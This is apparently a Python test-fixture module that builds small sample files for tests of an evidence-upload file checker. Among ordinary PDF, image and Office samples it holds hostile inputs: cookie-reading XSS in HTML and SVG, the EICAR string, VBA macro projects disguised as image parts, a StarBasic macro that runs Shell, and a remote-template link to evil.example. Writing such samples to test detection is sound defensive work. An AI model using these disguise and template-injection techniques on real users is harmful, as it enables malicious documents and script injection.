"""Small real files of each type, built in memory, for the evidence tests."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib


def pdf(text: str = "Training attendance register") -> bytes:
    body = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(body) + body + b"\nendstream",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, obj in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + obj + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def png(width: int = 4, height: int = 3, colour: tuple[int, int, int] = (29, 112, 184)) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))

    rows = b"".join(b"\x00" + bytes(colour) * width for _ in range(height))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def jpeg() -> bytes:
    """A JPEG's markers (enough for type detection; not a viewable picture)."""
    return (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
            + b"\xff\xdb\x00\x43\x00" + bytes(range(64)) + b"\xff\xd9")


def _zip(entries: list[tuple[str, bytes]], stored_first: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for index, (name, data) in enumerate(entries):
            method = zipfile.ZIP_STORED if stored_first and index == 0 else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=method)
    return out.getvalue()


CONTENT_TYPES = b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
RELS = b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'


def docx(text: str = "Revised policy") -> bytes:
    return _zip([("[Content_Types].xml", CONTENT_TYPES), ("_rels/.rels", RELS),
                 ("docProps/core.xml", b"<coreProperties/>"),
                 ("word/document.xml", f"<document><body><p>{text}</p></body></document>".encode())])


def docx_with_a_late_main_part() -> bytes:
    """A real DOCX whose word/ part comes after a large entry (defeats first-entries sniffing)."""
    return _zip([("[Content_Types].xml", CONTENT_TYPES), ("_rels/.rels", RELS),
                 ("docProps/thumbnail.jpeg", bytes(range(256)) * 64), ("docProps/core.xml", b"<c/>"),
                 ("customXml/item1.xml", b"<x/>" * 2000), ("word/document.xml", b"<document/>")])


def docm() -> bytes:
    return _zip([("[Content_Types].xml", CONTENT_TYPES), ("_rels/.rels", RELS),
                 ("word/document.xml", b"<document/>"), ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro")])


def xlsx() -> bytes:
    return _zip([("[Content_Types].xml", CONTENT_TYPES), ("_rels/.rels", RELS),
                 ("xl/workbook.xml", b"<workbook/>"), ("xl/worksheets/sheet1.xml", b"<worksheet/>")])


def pptx() -> bytes:
    return _zip([("[Content_Types].xml", CONTENT_TYPES), ("_rels/.rels", RELS),
                 ("ppt/presentation.xml", b"<presentation/>"), ("ppt/slides/slide1.xml", b"<sld/>")])


def odt() -> bytes:
    return _zip([("mimetype", b"application/vnd.oasis.opendocument.text"),
                 ("content.xml", b"<office:document-content/>"), ("META-INF/manifest.xml", b"<manifest/>")],
                stored_first=True)


def ods() -> bytes:
    return _zip([("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
                 ("content.xml", b"<office:document-content/>"), ("META-INF/manifest.xml", b"<manifest/>")],
                stored_first=True)


def plain_zip() -> bytes:
    return _zip([("minutes.txt", b"Minutes of the meeting"), ("photo.png", png())])


def csv() -> bytes:
    return (b"Officer,Course,Completed\nPC Jones,Suspect-focused investigation,2026-03-01\n"
            b"DS Pryce,Ymchwiliad,2026-03-02\n")


def txt() -> bytes:
    return b"Minutes of the RASSO board, 3 March 2026.\nAgreed: the new policy.\n"


def exe() -> bytes:
    """The start of a Windows program: an MZ header and a PE signature."""
    header = bytearray(b"MZ" + b"\x90\x00" * 29 + b"\x00" * 2)
    header += b"\x00" * (0x3C - len(header)) + struct.pack("<I", 0x80)
    header += b"\x00" * (0x80 - len(header)) + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 200
    return bytes(header)


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
       b"<script>alert(2)</script></svg>")
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


# --- packages that declare what they hold, as Office writes them ---------------------------------

OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
VBA_CONTENT_TYPE = "application/vnd.ms-office.vbaProject"
VBA_RELATIONSHIP = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def content_types(defaults: dict[str, str] | None = None, overrides: dict[str, str] | None = None) -> bytes:
    """[Content_Types].xml with the usual rels and xml defaults, plus those given."""
    defaults = {"rels": "application/vnd.openxmlformats-package.relationships+xml", "xml": "application/xml",
                **(defaults or {})}
    body = "".join(f'<Default Extension="{ext}" ContentType="{kind}"/>' for ext, kind in defaults.items())
    body += "".join(f'<Override PartName="{part}" ContentType="{kind}"/>' for part, kind in (overrides or {}).items())
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{body}</Types>').encode()


def relationships(*links: tuple[str, str]) -> bytes:
    """A .rels part: (type, target) for each relationship."""
    body = "".join(f'<Relationship Id="rId{n}" Type="{kind}" Target="{target}"/>'
                   for n, (kind, target) in enumerate(links, start=1))
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{body}'
            "</Relationships>").encode()


def declared_docx(*, defaults: dict[str, str] | None = None, overrides: dict[str, str] | None = None,
                  document_links: tuple[tuple[str, str], ...] = (), extra: dict[str, bytes] | None = None,
                  main: str = DOCX_MAIN) -> bytes:
    """A DOCX whose [Content_Types].xml and relationships say what its parts are."""
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return _zip([
        ("[Content_Types].xml", content_types(defaults, {"/word/document.xml": main, **(overrides or {})})),
        ("_rels/.rels", relationships((f"{office}/officeDocument", "word/document.xml"))),
        ("word/document.xml", b"<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'>"
                              b"<w:body><w:p/></w:body></w:document>"),
        ("word/_rels/document.xml.rels", relationships(
            (f"{office}/hyperlink", "https://www.college.police.uk/"), *document_links)),
        *(extra or {}).items(),
    ])


def docx_with_a_renamed_macro_project(how: str) -> bytes:
    """A DOCX carrying a VBA project under an innocent name, declared as Office needs it.

    ``how``: "override" (a content type Override for the part), "default" (a Default for its
    extension) or "relationship" (only the document's relationship says it is a VBA project).
    """
    part = "word/media/image7.dat"
    return declared_docx(
        defaults={"dat": VBA_CONTENT_TYPE} if how == "default" else None,
        overrides={f"/{part}": VBA_CONTENT_TYPE} if how == "override" else None,
        document_links=((VBA_RELATIONSHIP, "media/image7.dat"),) if how == "relationship" else (),
        extra={part: OLE2 + b"\x00" * 504 + b"Attribute VB_Name = \"ThisDocument\""},
    )


def with_a_renamed_macro_project(package: bytes, how: str, part: str = "xl/media/image7.dat",
                                 owner_rels: str = "xl/_rels/workbook.xml.rels") -> bytes:
    """A real Office file (an XLSX from openpyxl, say) with a VBA project added under an innocent
    name: declared by a content type Override (``how="override"``) or only by a relationship from
    its main part (``how="relationship"``)."""
    source = zipfile.ZipFile(io.BytesIO(package))
    entries = [(info.filename, source.read(info.filename)) for info in source.infolist()]
    target = part.rsplit("/", 2)[-2] + "/" + part.rsplit("/", 1)[-1]  # relative to the owner's folder
    changed = []
    for name, data in entries:
        if name == "[Content_Types].xml" and how == "override":
            data = data.replace(b"</Types>", f'<Override PartName="/{part}" ContentType="{VBA_CONTENT_TYPE}"/>'
                                             "</Types>".encode())
        if name == owner_rels and how == "relationship":
            data = data.replace(b"</Relationships>", f'<Relationship Id="rIdVba" Type="{VBA_RELATIONSHIP}" '
                                                     f'Target="{target}"/></Relationships>'.encode())
        changed.append((name, data))
    return _zip([*changed, (part, OLE2 + b"\x00" * 504)])


def odt_with_macros(folder: str = "Basic") -> bytes:
    """An ODT carrying a StarBasic library (Basic/) or a script (Scripts/), as LibreOffice saves one."""
    library = (f"{folder}/Standard/Module1.xml", b"<script:module>Sub Main\nShell(\"calc\")\nEnd Sub</script:module>")
    return _zip([("mimetype", b"application/vnd.oasis.opendocument.text"),
                 ("content.xml", b"<office:document-content/>"), library,
                 ("META-INF/manifest.xml", b"<manifest/>")], stored_first=True)


def docx_with_an_external(kind: str, target: str = "https://evil.example/template.dotm") -> bytes:
    """A DOCX whose document links a relationship of ``kind`` (attachedTemplate, oleObject, hyperlink…)
    to an outside address, with TargetMode="External" as Word writes it."""
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{office}/{kind}" Target="{target}" TargetMode="External"/>'
            "</Relationships>").encode()
    return _zip([
        ("[Content_Types].xml", content_types(None, {"/word/document.xml": DOCX_MAIN})),
        ("_rels/.rels", relationships((f"{office}/officeDocument", "word/document.xml"))),
        ("word/document.xml", b"<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'>"
                              b"<w:body><w:p/></w:body></w:document>"),
        ("word/_rels/settings.xml.rels" if kind == "attachedTemplate" else "word/_rels/document.xml.rels", rels),
    ])

